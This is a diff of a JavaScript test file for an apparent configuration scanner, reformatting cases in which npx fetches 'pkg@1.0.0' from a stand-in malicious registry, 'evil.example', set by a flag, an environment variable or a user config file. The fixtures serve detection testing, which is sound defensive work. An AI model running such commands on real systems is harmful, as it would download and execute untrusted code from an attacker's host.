@@ -27,8 +27,18 @@ describe("config-non-registry-package: another registry", () => {
   it.each([
     ["--registry flag", { command: "npx", args: ["--registry", "https://evil.example/", "-y", "pkg@1.0.0"] }],
     ["--registry=", { command: "npx", args: ["--registry=https://evil.example/", "-y", "pkg@1.0.0"] }],
-    ["npm_config_registry", { command: "npx", args: ["-y", "pkg@1.0.0"], env: { npm_config_registry: "https://evil.example/" } }],
-    ["a scoped registry", { command: "npx", args: ["-y", "pkg@1.0.0"], env: { "NPM_CONFIG_@acme:registry": "https://evil.example/" } }],
+    [
+      "npm_config_registry",
+      { command: "npx", args: ["-y", "pkg@1.0.0"], env: { npm_config_registry: "https://evil.example/" } },
+    ],
+    [
+      "a scoped registry",
+      {
+        command: "npx",
+        args: ["-y", "pkg@1.0.0"],
+        env: { "NPM_CONFIG_@acme:registry": "https://evil.example/" },
+      },
+    ],
     ["--userconfig", { command: "npx", args: ["--userconfig", "/tmp/npmrc", "-y", "pkg@1.0.0"] }],
   ])("%s", (_n, server) => {
     expect(configFindings(nonRegistry, { s: server })[0]?.title).toMatch(/from another registry/);
